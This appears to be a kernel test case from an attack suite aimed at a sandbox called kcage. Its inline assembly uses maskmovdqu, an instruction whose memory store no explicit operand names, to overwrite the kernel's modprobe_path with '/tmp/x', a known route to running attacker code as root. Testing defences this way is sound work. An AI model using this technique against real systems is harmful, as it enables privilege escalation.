// SPDX-License-Identifier: GPL-2.0
/*
 * atk_insn_maskmov: maskmovdqu stores 16 bytes at %rdi, an address no
 * explicit memory operand names, over modprobe_path (target=).  Only
 * %xmm0 and %xmm1 are touched, which no caller keeps live across a
 * system call (caller-saved), and the store never runs under kcage.
 */
#include <linux/fs.h>
#include "attack.h"

static const char evil[16] __aligned(16) = "/tmp/x";

static int attack(struct file *f)
{
	asm volatile("movdqu %0, %%xmm0\n\t"
		     "pcmpeqb %%xmm1, %%xmm1\n\t"
		     "maskmovdqu %%xmm1, %%xmm0"
		     : : "m"(evil), "D"(target) : "memory");
	return 0;
}
